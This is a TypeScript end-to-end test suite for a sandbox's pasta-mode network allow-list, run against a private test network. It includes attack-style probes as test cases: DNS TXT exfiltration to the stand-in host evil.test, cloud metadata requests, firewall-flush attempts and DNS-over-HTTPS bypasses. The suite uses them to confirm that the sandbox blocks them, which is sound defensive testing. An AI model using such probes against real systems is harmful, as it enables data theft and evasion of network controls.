/**
 * Issue 4: pasta mode. Every rule form and every enforcement promise, tried
 * from inside the sandbox with real clients (curl, Python's urllib, Node's
 * fetch, git, dig, socat) in the private test world (test-vm/), as an
 * unprivileged user and as root. Each test has a positive control in the
 * same run, and asserts on the outside: the world's DNS server never saw a
 * denied name, and no pasta process is left.
 *
 * Network rule: only the world's namespaces are ever reached.
 */
import { spawn, spawnSync } from "node:child_process";
import {
  chmodSync,
  mkdtempSync,
  readFileSync,
  rmSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { join } from "node:path";
import { dnsLogMark, dnsLogSince, startWorld, stopWorld } from "@ms/test-vm";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import {
  amRoot,
  asUser,
  CLI,
  mustWork,
  type RunOutput,
  sandboxWorks,
  testUsers,
  type User,
  workdir,
} from "./harness.js";

const PREFIX = "msnete2e";
const NS = `${PREFIX}-client`;
let world: Record<string, string> | null = null;

function canRun(): boolean {
  if (!amRoot) {
    if (mustWork)
      throw new Error("MS_MUST_WORK=1: the network tests need root to build the test world");
    console.warn("skipping network tests: building the test world needs root");
    return false;
  }
  return sandboxWorks();
}
const enabled = canRun();

beforeAll(async () => {
  if (enabled) world = await startWorld({ prefix: PREFIX });
}, 120_000);
afterAll(async () => {
  if (enabled) await stopWorld({ prefix: PREFIX });
}, 120_000);

function pastaProcesses(): string[] {
  const r = spawnSync("ps", ["-eo", "pid=,ppid=,stat=,etimes=,user=,comm="], { encoding: "utf8" });
  return r.stdout
    .split("\n")
    .filter((l) => /\b(pasta|passt)/.test(l))
    .map((l) => l.trim());
}

interface NetRun extends RunOutput {
  ms: number;
  /** DNS queries the world's upstream server saw during the run. */
  upstream: string[];
}

/** Runs the CLI as `user` inside the world's client namespace. */
function inClient(
  user: User,
  args: string[],
  opts: { cwd: string; env?: Record<string, string>; timeoutMs?: number } = { cwd: "/" },
): Promise<NetRun> {
  const mark = dnsLogMark({ world });
  const argv = ["ip", "netns", "exec", NS, ...asUser(user, [CLI, ...args], opts.env)];
  const t0 = Date.now();
  return new Promise((resolve, reject) => {
    const child = spawn(argv[0] as string, argv.slice(1), {
      cwd: opts.cwd,
      stdio: ["ignore", "pipe", "pipe"],
    });
    let stdout = "";
    let stderr = "";
    child.stdout.setEncoding("utf8").on("data", (d: string) => {
      stdout += d;
    });
    child.stderr.setEncoding("utf8").on("data", (d: string) => {
      stderr += d;
    });
    const timer = setTimeout(() => child.kill("SIGKILL"), opts.timeoutMs ?? 45_000);
    child.on("error", reject);
    child.on("close", (code, signal) => {
      clearTimeout(timer);
      resolve({
        code,
        signal,
        stdout,
        stderr,
        ms: Date.now() - t0,
        upstream: dnsLogSince(mark, { world }),
      });
    });
  });
}

/** A shell script that prints `OK name` or `NO name` for each probe. */
function probes(list: [string, string][]): string {
  return list
    .map(
      ([name, cmd]) =>
        `if ${cmd} >/dev/null 2>&1; then echo "OK ${name}"; else echo "NO ${name}"; fi`,
    )
    .join("\n");
}

const curl = (url: string, extra = "") => `curl -fsS -m 15 ${extra} ${url}`;

function results(out: string): Record<string, "OK" | "NO"> {
  const r: Record<string, "OK" | "NO"> = {};
  for (const line of out.split("\n")) {
    const m = /^(OK|NO) (.+)$/.exec(line);
    if (m) r[m[2] as string] = m[1] as "OK" | "NO";
  }
  return r;
}

function expectNoPasta(): void {
  expect(pastaProcesses()).toEqual([]);
}

function describeNet(title: string, body: (user: User) => void): void {
  for (const user of enabled
    ? testUsers()
    : [{ name: "nobody", uid: 65534, gid: 65534, home: "/" }])
    (enabled ? describe : describe.skip)(`${title} [as ${user.name}]`, () => body(user));
}

/** One pasta-mode run of a probe script; every probe must come out as expected. */
async function check(
  user: User,
  rules: string,
  expected: Record<string, [string, "OK" | "NO"]>,
  extraArgs: string[] = [],
): Promise<NetRun> {
  const cwd = workdir(user, "net");
  writeFileSync(join(cwd, "rules.txt"), rules);
  const script = probes(Object.entries(expected).map(([name, [cmd]]) => [name, cmd]));
  const r = await inClient(user, [...extraArgs, "-F", "rules.txt", "--", "sh", "-c", script], {
    cwd,
  });
  expect(r.stderr).not.toMatch(/internal error/);
  const want = Object.fromEntries(Object.entries(expected).map(([k, [, v]]) => [k, v]));
  expect(results(r.stdout), r.stderr).toEqual(want);
  expectNoPasta();
  return r;
}

describeNet("pasta mode: rule forms", (user) => {
  it("an IPv4 address", async () => {
    const r = await check(user, "# one host\n203.0.113.11\n", {
      allowed: [curl("http://203.0.113.11/"), "OK"],
      "other host": [curl("http://203.0.113.12/"), "NO"],
      "other address of the same server": [curl("http://203.0.113.10/"), "NO"],
    });
    expect(r.ms).toBeLessThan(10_000); // denied connects fail at once (curl waits 15 s)
  });

  it("an IPv4 address with a port, and a port range", async () => {
    await check(user, "203.0.113.10:8080\n203.0.113.11:70-90\n", {
      "allowed port": [curl("http://203.0.113.10:8080/"), "OK"],
      "other port": [curl("http://203.0.113.10/"), "NO"],
      "in range": [curl("http://203.0.113.11/"), "OK"],
    });
  });

  it("an IPv6 address, with and without a port", async () => {
    await check(user, "2001:db8:1::10\n", {
      allowed: [curl("http://[2001:db8:1::10]/"), "OK"],
      "v4 of the same server": [curl("http://203.0.113.10/"), "NO"],
    });
    await check(user, "[2001:db8:1::10]:80\n", {
      "allowed port": [curl("http://[2001:db8:1::10]/"), "OK"],
      "UDP on another port": ["echo hi | socat -T2 - 'udp:[2001:db8:1::10]:7' | grep -q hi", "NO"],
    });
  });

  it("CIDR ranges, v4 and v6", async () => {
    await check(user, "203.0.113.8/30\n2001:db8:1::/64\n", {
      ".10 in /30": [curl("http://203.0.113.10/"), "OK"],
      ".11 in /30": [curl("http://203.0.113.11/"), "OK"],
      ".12 outside": [curl("http://203.0.113.12/"), "NO"],
      "v6 in /64": [curl("http://[2001:db8:1::10]/"), "OK"],
    });
  });

  it("an exact domain: its addresses (v4 and v6) and nothing else; denied names never leave", async () => {
    const r = await check(user, "allowed.test\n", {
      name: [curl("http://allowed.test/"), "OK"],
      "name over IPv6": [curl("http://allowed.test/", "-6"), "OK"],
      "another name": [curl("http://other.test/"), "NO"],
      "a subdomain": [curl("http://sub.allowed.test/"), "NO"],
      "an address no name gave": [curl("http://203.0.113.11/"), "NO"],
    });
    expect(r.upstream).toContain("allowed.test");
    expect(r.upstream).not.toContain("other.test");
    expect(r.upstream).not.toContain("sub.allowed.test");
  });

  it("*.domain: any subdomain, not the domain itself", async () => {
    const r = await check(user, "*.wild.test\n", {
      subdomain: [curl("http://a.wild.test/"), "OK"],
      "deeper subdomain": [curl("http://x.y.wild.test/"), "OK"],
      "the domain itself": [curl("http://wild.test/"), "NO"],
    });
    expect(r.upstream).toContain("a.wild.test");
    expect(r.upstream).not.toContain("wild.test");
  });

  it("a domain with a port range", async () => {
    await check(user, "allowed.test:8000-8100\n", {
      "port in range": [curl("http://allowed.test:8080/"), "OK"],
      "port 80": [curl("http://allowed.test/"), "NO"],
    });
  });

  it("--allow rules, alone and added to -F", async () => {
    const cwd = workdir(user, "net");
    const r = await inClient(
      user,
      [
        "--allow",
        "203.0.113.11",
        "--allow",
        "allowed.test",
        "--",
        "sh",
        "-c",
        probes([
          ["a", curl("http://203.0.113.11/")],
          ["b", curl("http://allowed.test/")],
          ["c", curl("http://203.0.113.12/")],
        ]),
      ],
      { cwd },
    );
    expect(results(r.stdout)).toEqual({ a: "OK", b: "OK", c: "NO" });
  });
});

describeNet("pasta mode: bad input", (user) => {
  it("a bad rule: exit 125 naming file, line and text; a missing file: 125; never running", async () => {
    const cwd = workdir(user, "net");
    writeFileSync(join(cwd, "bad.txt"), "# ok\nallowed.test\n999.1.1.1\n");
    const bad = await inClient(user, ["-F", "bad.txt", "touch", "ran"], { cwd });
    expect(bad.code).toBe(125);
    expect(bad.stderr).toMatch(/bad\.txt:3: .*"999\.1\.1\.1"/);
    const missing = await inClient(user, ["-F", "nope.txt", "touch", "ran"], { cwd });
    expect(missing.code).toBe(125);
    expect(missing.stderr).toMatch(/nope\.txt.*does not exist/);
    const allow = await inClient(user, ["--allow", "a.*.test", "true"], { cwd });
    expect(allow.code).toBe(125);
    expect(allow.stderr).toMatch(/--allow:1: .*"a\.\*\.test"/);
    expect(() => statSync(join(cwd, "ran"))).toThrow();
  });

  it("-F and --allow conflict with -n and -N, naming both", async () => {
    const cwd = workdir(user, "net");
    writeFileSync(join(cwd, "r.txt"), "allowed.test\n");
    const a = await inClient(user, ["-n", "-F", "r.txt", "true"], { cwd });
    expect(a.code).toBe(125);
    expect(a.stderr).toMatch(/-F and -n cannot be used together/);
    const b = await inClient(user, ["--allow", "allowed.test", "-N", "true"], { cwd });
    expect(b.code).toBe(125);
    expect(b.stderr).toMatch(/--allow and -N cannot be used together/);
  });

  it("missing pasta: exit 125 with the remedy, nothing started", async () => {
    const cwd = workdir(user, "net");
    const bin = mkdtempSync("/tmp/ms-e2e-bin-");
    try {
      chmodSync(bin, 0o755);
      symlinkSync(process.execPath, join(bin, "node"));
      const r = await inClient(user, ["--allow", "allowed.test", "true"], {
        cwd,
        env: { PATH: bin },
      });
      expect(r.code).toBe(125);
      expect(r.stderr).toMatch(/needs 'pasta'/);
      expect(r.stderr).toMatch(/apt-get install passt/);
    } finally {
      rmSync(bin, { recursive: true, force: true });
    }
    expectNoPasta();
  });

  if (user.uid !== 0)
    it("/dev/net/tun not usable: exit 125 with the remedy", async () => {
      const cwd = workdir(user, "net");
      const mode = statSync("/dev/net/tun").mode & 0o777;
      chmodSync("/dev/net/tun", 0o600);
      try {
        const r = await inClient(user, ["--allow", "allowed.test", "touch", "ran"], { cwd });
        expect(r.code).toBe(125);
        expect(r.stderr).toMatch(/\/dev\/net\/tun/);
        expect(r.stderr).toMatch(/chmod 0666 \/dev\/net\/tun/);
      } finally {
        chmodSync("/dev/net/tun", mode);
      }
      expect(() => statSync(join(cwd, "ran"))).toThrow();
      expectNoPasta();
    });
});

describeNet("pasta mode: enforcement", (user) => {
  it("real clients: curl, Python's urllib, Node's fetch, git over HTTP", async () => {
    await check(user, "allowed.test\n", {
      curl: [curl("http://allowed.test/"), "OK"],
      python: [
        `python3 -c "import urllib.request as u; print(u.urlopen('http://allowed.test/', timeout=10).read())"`,
        "OK",
      ],
      "python denied": [
        `python3 -c "import urllib.request as u; u.urlopen('http://203.0.113.12/', timeout=10)"`,
        "NO",
      ],
      node: [
        `node -e "fetch('http://allowed.test/').then(r=>r.text()).then(t=>{if(!t.includes('hello'))process.exit(1)}).catch(()=>process.exit(1))"`,
        "OK",
      ],
      "node denied": [
        `node -e "fetch('http://other.test/').then(()=>{}).catch(()=>process.exit(1))"`,
        "NO",
      ],
      git: ["git clone -q http://allowed.test/repo.git clone && test -f clone/README", "OK"],
      "git denied": ["git clone -q http://other.test/repo.git other", "NO"],
    });
  });

  it("the command cannot change the firewall or the interface", async () => {
    await check(user, "allowed.test\n", {
      "nft flush": ["nft flush ruleset", "NO"],
      "nft add accept": ["nft add rule inet mini_sandbox output accept", "NO"],
      "link down": ["ip link set lo down", "NO"],
      "route change": ["ip route add 203.0.113.12/32 dev lo", "NO"],
      "still denied": [curl("http://203.0.113.12/"), "NO"],
      "still allowed": [curl("http://allowed.test/"), "OK"],
    });
  });

  it("denied TCP gets a reset and denied UDP an error at once", async () => {
    const r = await check(user, "203.0.113.10\n", {
      "tcp allowed": [curl("http://203.0.113.10/"), "OK"],
      "udp allowed": ["echo hi | socat -T3 - udp:203.0.113.10:7 | grep -q hi", "OK"],
      "tcp denied": [curl("http://203.0.113.11/"), "NO"],
      "udp denied fails at once": [
        `python3 -c "import socket,sys; s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.sendto(b'x',('203.0.113.11',7))"`,
        "NO",
      ],
    });
    expect(r.ms).toBeLessThan(10_000);
  });

  it("DNS: denied names REFUSED and never forwarded; direct DNS, DoT and DoH elsewhere blocked", async () => {
    const r = await check(user, "allowed.test\n", {
      "allowed name": ["dig +short +time=5 allowed.test | grep -q 203.0.113.10", "OK"],
      "denied name refused": ["dig +time=5 evil.test | grep -q 'status: REFUSED'", "OK"],
      "TXT exfiltration": ["dig +time=5 TXT c2VjcmV0.evil.test | grep -q 'status: REFUSED'", "OK"],
      "TCP too": ["dig +tcp +time=5 c2VjcmV0tcp.evil.test | grep -q 'status: REFUSED'", "OK"],
      "direct UDP DNS": ["dig +time=2 +tries=1 @198.51.100.53 direct-evil.test", "NO"],
      "direct TCP DNS": ["dig +tcp +time=2 +tries=1 @198.51.100.53 direct-evil-tcp.test", "NO"],
      "direct v6 DNS": ["dig +time=2 +tries=1 @2001:db8:1::53 direct-evil6.test", "NO"],
      DoT: ["curl -sS -m 5 telnet://198.51.100.53:853 </dev/null", "NO"],
      DoH: [curl("https://198.51.100.53/dns-query", "-k"), "NO"],
    });
    for (const name of [
      "evil.test",
      "c2VjcmV0.evil.test",
      "c2VjcmV0tcp.evil.test",
      "direct-evil.test",
      "direct-evil-tcp.test",
      "direct-evil6.test",
    ])
      expect(r.upstream, name).not.toContain(name);
  });

  it("DNS: CNAMEs are followed; answers pointing at loopback, private or metadata addresses are dropped", async () => {
    const r = await check(
      user,
      "cname.test\nrebind.test\nprivate.test\nmeta.test\nallowed.test\n",
      {
        cname: [curl("http://cname.test/"), "OK"],
        rebind: [curl("http://rebind.test/"), "NO"],
        private: [curl("http://private.test/"), "NO"],
        metadata: [curl("http://meta.test/"), "NO"],
        "positive control": [curl("http://allowed.test/"), "OK"],
      },
    );
    expect(r.upstream).toContain("rebind.test");
  });

  it("always denied unless allowed explicitly: private, metadata, loopback and the host's services", async () => {
    // A service on the client namespace's loopback (the "host" of the sandbox).
    const server = spawnSync(
      "ip",
      [
        "netns",
        "exec",
        NS,
        "sh",
        "-c",
        "python3 -m http.server --bind 127.0.0.1 18080 >/dev/null 2>&1 & echo $!",
      ],
      { encoding: "utf8" },
    );
    const pid = Number(server.stdout.trim());
    try {
      await new Promise((res) => setTimeout(res, 1600)); // longer than pasta's port scan interval
      await check(user, "203.0.113.10\n", {
        private: [curl("http://10.77.0.5/"), "NO"],
        metadata: [curl("http://169.254.169.254/"), "NO"],
        "host loopback": [curl("http://127.0.0.1:18080/"), "NO"],
        "host via gateway": [curl("http://198.51.100.1:18080/"), "NO"],
        "host own address": [curl("http://198.51.100.2:18080/"), "NO"],
        "positive control": [curl("http://203.0.113.10/"), "OK"],
      });
      await check(user, "10.77.0.5\n169.254.169.254:80\n127.0.0.0/8\n", {
        "private, explicit": [curl("http://10.77.0.5/"), "OK"],
        "metadata, explicit": [curl("http://169.254.169.254/"), "OK"],
        // Even allowed, the host's loopback stays out of reach: pasta forwards none of it.
        "host loopback, explicit": [curl("http://127.0.0.1:18080/"), "NO"],
      });
    } finally {
      if (pid > 0) process.kill(pid, "SIGKILL");
    }
  });

  it("IPv6 follows the same policy", async () => {
    await check(user, "203.0.113.10\nallowed.test:80\n", {
      "v6 of an allowed name": [curl("http://allowed.test/", "-6"), "OK"],
      "v6 address not allowed": [curl("http://[2001:db8:1::10]:8080/"), "NO"],
      "v6 DNS server": ["dig +time=2 +tries=1 @2001:db8:1::53 allowed.test", "NO"],
    });
  });

  it("reports blocked attempts (with names) and denied names: JSON report and --verbose", async () => {
    const cwd = workdir(user, "net");
    writeFileSync(join(cwd, "rules.txt"), "multi.test:8080\n");
    const script = probes([
      ["a", curl("http://multi.test:8080/")],
      ["b", curl("http://multi.test/")],
      ["c", curl("http://203.0.113.12:8080/")],
      ["d", "dig +short evil.test"],
    ]);
    const r = await inClient(
      user,
      ["--verbose", "--report", "report.json", "-F", "rules.txt", "sh", "-c", script],
      { cwd },
    );
    expect(results(r.stdout)).toMatchObject({ a: "OK", b: "NO", c: "NO" });
    const report = JSON.parse(readFileSync(join(cwd, "report.json"), "utf8"));
    expect(report.network.blocked).toEqual(
      expect.arrayContaining([
        {
          destination: "203.0.113.10",
          port: 80,
          protocol: "tcp",
          names: ["multi.test"],
        },
        { destination: "203.0.113.12", port: 8080, protocol: "tcp", names: [] },
      ]),
    );
    expect(report.network.deniedNames).toEqual(
      expect.arrayContaining([{ name: "evil.test", type: "A", count: expect.any(Number) }]),
    );
    expect(r.stderr).toMatch(/blocked tcp 203\.0\.113\.12 port 8080/);
    expect(r.stderr).toMatch(/denied name evil\.test/);
    expect(r.upstream).not.toContain("evil.test");
    expectNoPasta();
  });

  it("pasta is stopped at exit, also when mini-sandbox is killed", async () => {
    const cwd = workdir(user, "net");
    const argv = [
      "ip",
      "netns",
      "exec",
      NS,
      ...asUser(user, [CLI, "--allow", "allowed.test", "sleep", "60"]),
    ];
    const child = spawn(argv[0] as string, argv.slice(1), { cwd, stdio: "ignore" });
    for (let i = 0; i < 100 && pastaProcesses().length === 0; i++)
      await new Promise((r) => setTimeout(r, 50));
    expect(pastaProcesses().length).toBe(1);
    child.kill("SIGKILL");
    for (let i = 0; i < 60 && pastaProcesses().length > 0; i++)
      await new Promise((r) => setTimeout(r, 50));
    expectNoPasta();
    expect(
      spawnSync("sh", ["-c", "ls -d /tmp/ms-pasta-* 2>/dev/null"], { encoding: "utf8" }).stdout,
    ).toBe("");
  });
});
